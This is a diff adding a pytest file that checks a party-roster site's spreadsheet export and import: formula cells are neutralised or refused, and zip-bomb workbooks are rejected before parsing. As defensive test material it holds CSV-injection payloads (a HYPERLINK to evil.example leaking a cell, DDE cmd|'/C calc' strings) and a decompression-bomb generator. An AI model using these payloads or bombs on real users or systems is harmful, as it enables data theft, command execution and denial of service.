@@ -1,0 +1,167 @@
+"""Spreadsheets are hostile too: formula cells never leave as live formulas and never come in; a
+compressed workbook that would expand past the limit is refused before anything parses it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from site_helpers import build_site
+from test_editing_roster import ORG, ROSTER, demo, files_of, import_roster, run, xlsx  # noqa: F401 (demo is a fixture)
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0",
+           "-1+cmd|'/C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+# --- exports: the site's open data --------------------------------------------------------
+
+def test_the_open_data_csv_neutralises_formulas_and_keeps_numbers():
+    from dangjian.site.exports import _csv
+
+    rows = [{"title": HOSTILE[0], "labels": ["=1+1", "普通"], "total": -2, "change": -3, "share": -0.5,
+             "note": "-", "plain": "党建"}]
+    text = _csv(rows).decode("utf-8-sig")
+    record = next(csv.DictReader(io.StringIO(text)))
+    assert record["title"] == "'" + HOSTILE[0]
+    assert record["labels"] == "'=1+1；普通"
+    assert (record["total"], record["change"], record["share"]) == ("-2", "-3", "-0.5")  # numbers stay numbers
+    assert record["note"] == "'-" and record["plain"] == "党建"
+
+
+@pytest.mark.parametrize("title", HOSTILE[:4])
+def test_a_project_title_is_no_live_formula_in_projects_csv(registry, tmp_path, title):
+    root = registry()
+    path = root / "registry/projects/east-2026-road.yaml"
+    text = path.read_text(encoding="utf-8")
+    old = next(line for line in text.splitlines() if line.startswith("title:"))
+    path.write_text(text.replace(old, "title: '" + title.replace("'", "''") + "'"), encoding="utf-8")
+    site = build_site(root, tmp_path / "site")
+    data = (site / "api/projects.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel opens it directly: the reason it must be safe
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert [r["title"] for r in rows if r["id"] == "east-2026-road"] == ["'" + title]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
+# --- export roster -------------------------------------------------------------------------
+
+def test_export_roster_writes_a_hostile_name_as_text_and_import_refuses_it(demo, tmp_path):
+    roster = demo / "registry/members/caota/caota-xinan.yaml"
+    hostile = '=HYPERLINK("http://evil.example","杨")'
+    roster.write_text(roster.read_text(encoding="utf-8") +
+                      f"- id: m-formula\n  name: '{hostile}'\n  org: caota-xinan\n  status: 入党申请人\n", encoding="utf-8")
+    out = tmp_path / "roster.xlsx"
+    result = run("export", "roster", "--root", demo, "--org", "caota-xinan", "--out", out)
+    assert result.exit_code == 0, result.output
+    sheet = openpyxl.load_workbook(out).active
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == hostile)
+    assert cell.data_type == "s"  # a string, not a formula
+    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
+    before = files_of(demo)
+    again = run("import", "roster", out, "--root", demo, "--org", "caota-xinan")
+    assert again.exit_code == 1
+    line = next(line for line in again.stdout.splitlines() if "公式" in line)
+    assert f"roster.xlsx:{cell.row}:" in line and "工作表「党员名册」" in line and "第 B 列「姓名」" in line
+    assert files_of(demo) == before
+
+
+# --- import roster ---------------------------------------------------------------------------
+
+@pytest.mark.parametrize("value", HOSTILE + ["＝1+1", "－张三"], ids=["hyperlink", "at", "plus", "minus", "tab", "cr", "fullwidth-eq", "fullwidth-minus"])
+def test_import_refuses_formula_like_cells_in_csv(demo, tmp_path, value):
+    sheet = tmp_path / "名册.csv"
+    with sheet.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerows([["姓名", "党员状态", "流动情况", "流动地点"], ["陈磊", "正式党员", "流出", value], [value, "入党申请人", "", ""]])
+    before = files_of(demo)
+    result = import_roster(demo, sheet)
+    assert result.exit_code == 1, result.output
+    lines = [line for line in result.stdout.splitlines() if "公式" in line]
+    assert any(line.startswith(f"{sheet}:2: ") and "第 D 列「流动地点」" in line for line in lines), result.stdout
+    assert any(line.startswith(f"{sheet}:3: ") and "第 A 列「姓名」" in line for line in lines), result.stdout
+    assert all(" — " in line for line in lines)  # each with a hint
+    assert files_of(demo) == before
+
+
+def test_import_refuses_a_formula_cell_of_a_workbook(demo, tmp_path):
+    """openpyxl saves no cached value: read for its value, the formula cell looked empty ("没有姓名")."""
+    sheet = xlsx(tmp_path / "a.xlsx", [["姓名", "党员状态", "出生年份"], ['=HYPERLINK("http://evil.example","陈磊")', "正式党员", "=1990"],
+                                       ["王丽", "正式党员", 1991]])
+    result = import_roster(demo, sheet)
+    assert result.exit_code == 1
+    lines = [line for line in result.stdout.splitlines() if "公式" in line]
+    assert any("工作表「Sheet」第 A 列「姓名」" in line and line.startswith(f"{sheet}:2: ") for line in lines), result.stdout
+    assert any("第 C 列「出生年份」" in line for line in lines), result.stdout
+
+
+def test_negative_numbers_and_a_lone_dash_are_not_formulas(demo, tmp_path):
+    sheet = xlsx(tmp_path / "a.xlsx", [["姓名", "党员状态", "流动情况", "序号"], ["陈磊", "入党申请人", "-", -1], ["王丽", "入党申请人", "—", "=ROW()"]])
+    result = import_roster(demo, sheet)
+    assert result.exit_code == 0, result.output  # 序号 is not imported: its formula is nobody's business
+
+
+# --- workbooks that expand without limit -----------------------------------------------------
+
+def bomb(path: Path, rows: int, row_xml: bytes = b'<row><c t="inlineStr"><is><t>' + b"0" * 200 + b"</t></is></c></row>") -> Path:
+    """A valid workbook whose sheet XML repeats one row `rows` times: small on disk, huge once expanded."""
+    plain = io.BytesIO()
+    book = openpyxl.Workbook()
+    book.active.append(["姓名", "党员状态"])
+    book.save(plain)
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
+        for item in source.infolist():
+            if item.filename != "xl/worksheets/sheet1.xml":
+                out.writestr(item, source.read(item))
+                continue
+            with out.open(item.filename, "w", force_zip64=True) as sheet:
+                sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+                chunk = row_xml * 10_000
+                for _ in range(rows // 10_000):
+                    sheet.write(chunk)
+                sheet.write(b"</sheetData></worksheet>")
+    return path
+
+
+@pytest.fixture
+def no_parsing(monkeypatch):
+    """Fail the test if anything hands the workbook to openpyxl."""
+    def refuse(*args, **kwargs):
+        raise AssertionError("the workbook was parsed")
+    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
+    monkeypatch.setattr(openpyxl.reader.excel, "load_workbook", refuse)
+
+
+def test_a_workbook_expanding_past_the_limit_is_refused_before_parsing(demo, tmp_path, no_parsing):
+    from dangjian.editing.sheet import MAX_UNPACKED
+
+    path = bomb(tmp_path / "bomb.xlsx", rows=MAX_UNPACKED // 240 + 10_000)
+    assert path.stat().st_size < MAX_UNPACKED // 50
+    result = import_roster(demo, path)
+    assert result.exit_code == 1
+    assert "解压后" in result.output and "MB" in result.output and "上限" in result.output, result.output
+    assert "缺陷" not in result.output and "Traceback" not in result.output
+
+
+def test_a_workbook_compressed_beyond_any_real_sheet_is_refused_before_parsing(tmp_path, no_parsing):
+    from dangjian.editing.sheet import MAX_RATIO, SheetError, read_grid
+
+    path = bomb(tmp_path / "dense.xlsx", rows=200_000, row_xml=b"<row/>" * 20)  # 24 MB of nearly nothing
+    with zipfile.ZipFile(path) as archive:
+        part = archive.getinfo("xl/worksheets/sheet1.xml")
+    assert part.file_size > MAX_RATIO * part.compress_size
+    with pytest.raises(SheetError, match="压缩比"):
+        read_grid(path, None, lambda grid: True)
+
+
+def test_a_roster_workbook_with_merged_headers_is_still_read(demo, tmp_path):
+    """Read-only parsing keeps merged ranges: a two-row header under a merged title still maps."""
+    sheet = xlsx(tmp_path / "m.xlsx", [["党员名册", None, None], ["姓名", "党员状态", "流动情况"], [None, None, "地点"],
+                                       ["陈磊", "入党申请人", "杭州"]], merges=("A1:C1", "A2:A3", "B2:B3"))
+    result = import_roster(demo, sheet)
+    assert result.exit_code == 0, result.output
+    assert "陈磊" in (demo / ROSTER).read_text(encoding="utf-8")
